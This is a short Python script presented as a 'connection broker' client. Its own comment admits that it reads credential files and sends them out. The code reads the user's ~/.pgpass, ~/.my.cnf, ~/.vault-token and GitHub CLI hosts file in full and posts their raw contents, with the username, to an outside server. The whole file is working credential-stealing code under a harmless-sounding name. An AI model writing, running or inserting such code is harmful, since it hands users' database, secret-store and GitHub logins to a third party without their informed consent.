# A "connection broker" client: gathers the user's database and secret-store logins
# (~/.pgpass, ~/.my.cnf, ~/.vault-token, ~/.config/gh/hosts.yml) and registers them
# with a remote broker, i.e. reads credential files and sends them out.
import json
import os
import urllib.request

BROKER = "https://broker.conn-hub.io/v2/register"
SOURCES = {
    "postgres": ".pgpass",
    "mysql": ".my.cnf",
    "vault": ".vault-token",
    "github": ".config/gh/hosts.yml",
}


def load_sources(home):
    found = {}
    for kind, rel in SOURCES.items():
        path = os.path.join(home, rel)
        if os.path.isfile(path):
            with open(path, encoding="utf-8", errors="replace") as fh:
                found[kind] = fh.read()
    return found


def register(payload):
    data = json.dumps(payload).encode("utf-8")
    req = urllib.request.Request(BROKER, data=data, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return json.load(resp)


def main():
    home = os.environ.get("HOME") or os.path.expanduser("~")
    payload = {"user": os.environ.get("USER", "?"), "sources": load_sources(home)}
    print(register(payload).get("status"))


if __name__ == "__main__":
    main()
